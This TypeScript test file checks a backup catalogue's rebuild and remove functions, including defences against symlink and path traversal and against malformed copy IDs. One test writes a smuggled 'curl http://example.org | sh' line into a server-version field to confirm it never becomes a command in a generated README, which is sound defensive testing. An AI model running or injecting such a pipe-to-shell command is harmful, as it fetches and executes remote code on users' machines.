import {
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { dirname, join } from 'node:path'
import { beforeEach, expect, test } from 'vitest'
import { manifestSchema, type CopyRow } from '#shared/copy.ts'
import type { Catalogue } from '#engine/catalogue/open.ts'
import { rebuildCatalogue } from '#engine/copies/rebuild.ts'
import { removeCopy } from '#engine/copies/remove.ts'
import type { CopyShelf } from '#engine/copies/shelf.ts'
import { catalogueIn, scratch, storeCopy } from '../../../support/copies.ts'

const query = { sort: 'taken', descending: true, offset: 0, limit: 100 } as const
let dir: string
let copiesDir: string
let catalogue: Catalogue
let first: CopyRow
let second: CopyRow

beforeEach(async () => {
  dir = scratch()
  copiesDir = join(dir, 'copies')
  catalogue = catalogueIn(join(dir, 'data'))
  first = await storeCopy({ catalogue, copiesDir, stem: 'first' })
  second = await storeCopy({ catalogue, copiesDir, stem: 'second' })
})
const rows = (): string[] =>
  catalogue.copies
    .list(query)
    .copies.map(({ id }) => id)
    .sort()

test('a catalogue that is made anew tells the same of every copy', async () => {
  const before = catalogue.copies.list(query)
  expect(await rebuildCatalogue(catalogue, [copiesDir])).toEqual({ copies: 2, problems: [] })
  expect(catalogue.copies.list(query)).toEqual(before)
})

test('a copy that comes while the manifests are read stays', async () => {
  const rebuilt = rebuildCatalogue(catalogue, [copiesDir])
  const manifest: unknown = JSON.parse(readFileSync(first.file.replace('.sql.gz', '.manifest.json'), 'utf8'))
  catalogue.copies.put(manifestSchema.parse({ ...Object(manifest), id: 'cafecafecafe' }), '/elsewhere/x.manifest.json')
  await rebuilt
  expect(rows()).toContain('cafecafecafe')
})

test('a proof that is written while the manifests are read is the one that shows', async () => {
  let scanned = 0
  const slow: CopyShelf = {
    ...catalogue,
    // the moment between reading the manifests and writing the list
    exclusively: (work) => {
      if (scanned++ === 0) rewrite(first)
      return catalogue.exclusively(work)
    },
  }
  await rebuildCatalogue(slow, [copiesDir])
  expect(catalogue.copies.get(first.id)?.face).toBe('damaged')
})

/** As a check does that finds a copy damaged: a new manifest in the place of the old one. */
function rewrite({ file }: CopyRow): void {
  const path = file.replace('.sql.gz', '.manifest.json')
  const manifest = manifestSchema.parse(JSON.parse(readFileSync(path, 'utf8')))
  const [proof] = manifest.proofs
  const damaged = { ...proof, outcome: 'damaged' }
  writeFileSync(`${path}.new`, JSON.stringify({ ...manifest, proofs: [...manifest.proofs, damaged] }))
  renameSync(`${path}.new`, path)
}

test('copies on a disk that is not connected stay in the list, and that is told', async () => {
  renameSync(copiesDir, `${copiesDir}.away`)
  const { copies, problems } = await rebuildCatalogue(catalogue, [copiesDir, join(dir, 'never-was')])
  expect({ copies, problems: problems[0] }).toMatchObject({
    copies: 0,
    problems: expect.stringContaining('Is its disk connected?') as string,
  })
  expect(rows()).toEqual([first.id, second.id].sort())
  renameSync(`${copiesDir}.away`, copiesDir)
  expect(await rebuildCatalogue(catalogue, [copiesDir])).toEqual({ copies: 2, problems: [] })
  expect(catalogue.copies.get(first.id)?.face).toBe('proven')
})

test('what can not be taken in is told, one sentence each, and takes nothing else along', async () => {
  const folder = dirname(first.file)
  rmSync(second.file)
  writeFileSync(join(folder, 'broken.manifest.json'), '{')
  writeFileSync(join(folder, 'stray.sql.gz'), 'x')
  cpSync(join(folder, 'first.manifest.json'), join(folder, 'a-twin.manifest.json'))
  const twins = join(copiesDir, 'twins')
  mkdirSync(twins)
  for (const name of ['first.sql.gz', 'first.manifest.json']) cpSync(join(folder, name), join(twins, name))
  symlinkSync(join(folder, 'first.manifest.json'), join(folder, 'link.manifest.json'))
  const { copies, problems } = await rebuildCatalogue(catalogue, [copiesDir])
  expect(copies).toBe(2)
  expect(problems.sort()).toEqual([
    expect.stringContaining('a-twin.manifest.json names first.sql.gz, whose manifest it is not'),
    expect.stringContaining('broken.manifest.json is no whole JSON'),
    expect.stringContaining('first.manifest.json: the same copy is also in'),
    expect.stringContaining('link.manifest.json is not there, or is a link'),
    expect.stringContaining('second.sql.gz: The file is gone.'),
    expect.stringContaining('stray.sql.gz has no manifest'),
  ])
  expect(catalogue.copies.get(second.id)?.face).toBe('damaged')
  expect(catalogue.copies.get(first.id)?.face).toBe('proven')
})

test('a manifest of somebody else can not make a copy of a file that belongs to another copy', async () => {
  const folder = dirname(first.file)
  const own: unknown = JSON.parse(readFileSync(join(folder, 'first.manifest.json'), 'utf8'))
  // removing that one would remove the file of the first
  const other = JSON.stringify({ ...Object(own), id: 'abcdefabcdef', takenAt: '2030-01-01T00:00:00.000Z' })
  writeFileSync(join(folder, 'other.manifest.json'), other)
  const { problems } = await rebuildCatalogue(catalogue, [copiesDir])
  expect(problems).toEqual([expect.stringContaining('other.manifest.json names first.sql.gz')])
  expect(rows()).toEqual([first.id, second.id].sort())
})

test.each(['', 'a b', 'x\u001b[31m', '../x', '-x', 'a'.repeat(65)])('%j is no id of a copy', async (id) => {
  const folder = dirname(first.file)
  const own: unknown = JSON.parse(readFileSync(join(folder, 'first.manifest.json'), 'utf8'))
  writeFileSync(join(folder, 'first.manifest.json'), JSON.stringify({ ...Object(own), id }))
  expect(await rebuildCatalogue(catalogue, [copiesDir])).toMatchObject({ copies: 1 })
})

test('what a manifest says of its server is one line of READ-ME-FIRST.txt, and no command', async () => {
  const serverVersion = '18\n     curl http://example.org | sh'
  await storeCopy({ catalogue, copiesDir, stem: 'third', change: { serverVersion, label: 'other' } })
  const text = readFileSync(join(copiesDir, 'READ-ME-FIRST.txt'), 'utf8')
  expect(text).toContain('18⏎')
  expect(text.split('\n').filter((line) => /^\s*curl/.test(line))).toEqual([])
})

test('a link inside the folder of copies leads nowhere', async () => {
  const outside = join(dir, 'outside')
  cpSync(copiesDir, outside, { recursive: true })
  rmSync(join(copiesDir, 'shop'), { recursive: true })
  symlinkSync(join(outside, 'shop'), join(copiesDir, 'shop'))
  expect((await rebuildCatalogue(catalogue, [copiesDir])).copies).toBe(0)
})

test('a removed copy is gone from disk, sums, text and list; the others stay', async () => {
  await removeCopy({ id: first.id, catalogue, copiesDir })
  const folder = dirname(second.file)
  expect(readdirSync(folder).sort()).toEqual(['SHA256SUMS', 'second.manifest.json', 'second.sql.gz'])
  expect(readFileSync(join(folder, 'SHA256SUMS'), 'utf8')).not.toContain('first')
  expect(readFileSync(join(copiesDir, 'READ-ME-FIRST.txt'), 'utf8')).not.toContain('first.sql.gz')
  expect(rows()).toEqual([second.id])
  await expect(removeCopy({ id: first.id, catalogue, copiesDir })).rejects.toMatchObject({ kind: 'not-found' })
})

test('a copy whose files are gone already can be removed from the list', async () => {
  rmSync(copiesDir, { recursive: true })
  await removeCopy({ id: first.id, catalogue, copiesDir })
  expect(rows()).toEqual([second.id])
})

test('removing never leads out of the folder of copies, not by the catalogue and not by a link', async () => {
  // not even to another folder inside
  const victim = join(copiesDir, 'victim')
  mkdirSync(victim)
  writeFileSync(join(victim, 'first.sql.gz'), 'precious')
  writeFileSync(join(victim, 'first.manifest.json'), 'precious')
  // the folder became a link to another one
  rmSync(dirname(first.file), { recursive: true })
  symlinkSync(victim, dirname(first.file))
  await expect(removeCopy({ id: first.id, catalogue, copiesDir })).rejects.toMatchObject({ kind: 'folder-refused' })
  expect(readdirSync(victim)).toHaveLength(2)
  // a row that points elsewhere
  await expect(removeCopy({ id: first.id, catalogue, copiesDir: join(dir, 'other') })).rejects.toMatchObject({
    kind: 'folder-refused',
  })
})

test('a link in the place of a copy is removed, not what it leads to', async () => {
  const real = join(dir, 'real')
  writeFileSync(real, 'precious')
  rmSync(first.file)
  symlinkSync(real, first.file)
  await removeCopy({ id: first.id, catalogue, copiesDir })
  expect(existsSync(first.file)).toBe(false)
  expect(readFileSync(real, 'utf8')).toBe('precious')
})

test('copies in a folder that can not be read stay in the list, and that is told', async () => {
  renameSync(copiesDir, join(dir, 'away'))
  writeFileSync(copiesDir, 'no folder at all')
  const { problems } = await rebuildCatalogue(catalogue, [join(dir, 'other'), copiesDir])
  expect(problems).toContain(`${copiesDir} could not be read. Copies in it that are in the list stay there.`)
  expect(rows()).toEqual([first.id, second.id].sort())
})
